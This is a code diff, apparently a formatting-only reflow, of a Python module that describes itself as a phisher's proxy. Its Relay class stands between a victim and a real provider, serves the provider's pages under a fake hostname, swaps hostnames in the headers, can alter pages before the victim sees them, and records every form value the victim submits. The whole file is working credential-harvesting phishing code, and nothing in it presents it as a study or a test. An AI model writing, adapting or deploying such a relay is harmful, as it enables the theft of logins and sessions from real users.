@@ -1,11 +1,21 @@
 """The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
+
 from collections.abc import Callable, Iterable
 from urllib.parse import quote
 
 import httpx
 from werkzeug.wrappers import Request, Response
 
-NOT_PASSED_ON = {"host", "cookie", "content-length", "connection", "accept-encoding", "transfer-encoding", "content-encoding", "set-cookie"}
+NOT_PASSED_ON = {
+    "host",
+    "cookie",
+    "content-length",
+    "connection",
+    "accept-encoding",
+    "transfer-encoding",
+    "content-encoding",
+    "set-cookie",
+}
 
 
 class Relay:
@@ -15,7 +25,9 @@ class Relay:
     else. `typed` is what the victim sent in forms. `rewrite` may change a page before the victim sees it. One victim at a time.
     """
 
-    def __init__(self, network: httpx.Client, real: str, fake: str, rewrite: Callable[[str], str] = str):
+    def __init__(
+        self, network: httpx.Client, real: str, fake: str, rewrite: Callable[[str], str] = str
+    ):
         self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
         self.typed: dict[str, str] = {}
 
@@ -23,8 +35,12 @@ class Relay:
         request = Request(environ)
         body = request.get_data()
         self.typed |= request.form.to_dict()
-        headers = httpx.Headers(passed_on(request.headers, self.fake, self.real), encoding="latin-1")
-        answer = self.network.request(request.method, self.real + target(environ), headers=headers, content=body)
+        headers = httpx.Headers(
+            passed_on(request.headers, self.fake, self.real), encoding="latin-1"
+        )
+        answer = self.network.request(
+            request.method, self.real + target(environ), headers=headers, content=body
+        )
         headers = passed_on(answer.headers.multi_items(), self.real, self.fake)
         return Response(self.shown(answer), answer.status_code, headers)(environ, start_response)
 
@@ -37,10 +53,17 @@ class Relay:
 
 def target(environ: dict) -> str:
     """Path and query as they came. WSGI has taken the percent signs out of the path, so they are put back."""
-    path, query = quote(environ["PATH_INFO"].encode("latin-1"), safe="/;@:+"), environ["QUERY_STRING"]
+    path, query = (
+        quote(environ["PATH_INFO"].encode("latin-1"), safe="/;@:+"),
+        environ["QUERY_STRING"],
+    )
     return f"{path}?{query}" if query else path
 
 
 def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
     """The headers that a relay hands on, with its own name in the place of the provider's or the other way round."""
-    return [(name, value.replace(old, new)) for name, value in headers if name.lower() not in NOT_PASSED_ON]
+    return [
+        (name, value.replace(old, new))
+        for name, value in headers
+        if name.lower() not in NOT_PASSED_ON
+    ]
